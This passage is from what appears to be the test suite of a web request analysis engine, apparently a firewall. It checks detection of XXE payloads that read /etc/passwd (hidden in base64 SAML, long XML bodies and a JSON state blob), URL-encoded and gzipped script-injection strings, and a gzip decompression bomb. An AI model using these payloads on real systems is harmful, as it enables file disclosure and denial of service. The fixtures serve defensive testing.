    expect(padded.map((e) => e.matches.map((m) => [m.id, m.classification]))).toEqual([[[960111, 'ProtocolAnomaly']]]);
  });

  it("reads the head of a base64 XML document too long to unwrap whole (a SAML response's DTD)", () => {
    const engine = createAnalysisEngine();
    const assertion = `<saml:Assertion>${'<saml:Attribute Name="group"><saml:AttributeValue>staff</saml:AttributeValue></saml:Attribute>'.repeat(60)}</saml:Assertion>`;
    const saml = (prolog: string): string =>
      'SAMLResponse=' +
      encodeURIComponent(Buffer.from(`<?xml version="1.0"?>${prolog}<samlp:Response ID="_1">${assertion}</samlp:Response>`).toString('base64'));
    const post = (body: string): string[] =>
      matchEvents(
        engine.analyze(
          buildExchange({ method: 'POST', target: '/saml/acs', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: body }),
          context,
        ),
      ).flatMap((e) => e.matches.map((m) => m.classification));
    const attack = saml('<!DOCTYPE samlp:Response [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
    expect(attack.length).toBeGreaterThan(6000);
    expect(post(attack)).toContain('Xxe');
    expect(post(saml(''))).toEqual([]);
    // Long base64 that is not markup (a state blob) is still not unwrapped.
    expect(
      post(
        `state=${encodeURIComponent(Buffer.from(`{"v":"${'ab'.repeat(3000)}","x":"<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"}`).toString('base64'))}`,
      ),
    ).toEqual([]);
  });

  it('matches long raw bodies in overlapping windows, and bounds the work per request', () => {
    const engine = createAnalysisEngine();
    const padding = `<note>${'lorem ipsum '.repeat(3000)}</note>`;
    const xxe = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
    const events = engine.analyze(
      buildExchange({ method: 'POST', target: '/soap', requestHeaders: [['Content-Type', 'application/xml']], requestBody: `${padding}${xxe}<d>&x;</d>` }),
      context,
    );
    expect(matchEvents(events)[0].matches.map((m) => m.classification)).toContain('Xxe');
    // 100 values of 16 KiB are 1.6 MiB of text, over the 1 MiB per-request budget: the request is
    // still analysed (the first values are), the last value is not, the request is reported for
    // it (padding past a limit), and nothing fails.
    const many = Array.from({ length: 100 }, (_, i) => `p${i}=${'lorem+ipsum+'.repeat(1366)}`).join('&') + '&last=%3Cscript%3Ealert(1)%3C%2Fscript%3E';
    const big = createAnalysisEngine({ limits: { maxBodyBytes: 8 * 1024 * 1024 } });
    expect(
      matchEvents(
        big.analyze(
          buildExchange({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: many }),
          context,
        ),
      ).map((e) => e.matches.map((m) => m.id)),
    ).toEqual([[960111]]);
    expect(big.counters().malformed).toBe(0);
    const few = Array.from({ length: 10 }, (_, i) => `p${i}=${'lorem+ipsum+'.repeat(1366)}`).join('&') + '&last=%3Cscript%3Ealert(1)%3C%2Fscript%3E';
    expect(
      matchEvents(
        big.analyze(
          buildExchange({ method: 'POST', target: '/f', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: few }),
          context,
        ),
      ),
    ).toHaveLength(1);
  });

  it('decodes gzip bodies up to maxDecodedBytes and survives a decompression bomb', () => {
    const engine = createAnalysisEngine({ limits: { maxDecodedBytes: 64 * 1024 } });
    const small = gzipSync(JSON.stringify({ comment: '<script>alert(1)</script>' }));
    expect(
      matchEvents(
        engine.analyze(
          buildExchange({
            method: 'POST',
            target: '/j',
            requestHeaders: [['Content-Type', 'application/json']],
            requestBody: small,
            requestContentEncoding: 'gzip',
          }),
          context,
        ),
      ),
    ).toHaveLength(1);
    const bomb = gzipSync(Buffer.concat([Buffer.alloc(20 * 1024 * 1024, 0x20), Buffer.from('<script>alert(1)</script>')]));
    expect(bomb.length).toBeLessThan(100 * 1024);
    const events = engine.analyze(
      buildExchange({ method: 'POST', target: '/j', requestHeaders: [['Content-Type', 'text/plain']], requestBody: bomb, requestContentEncoding: 'gzip' }),
      context,
    );
    expect(matchEvents(events)).toEqual([]);
    expect(engine.counters().malformed).toBe(0);
  });
});
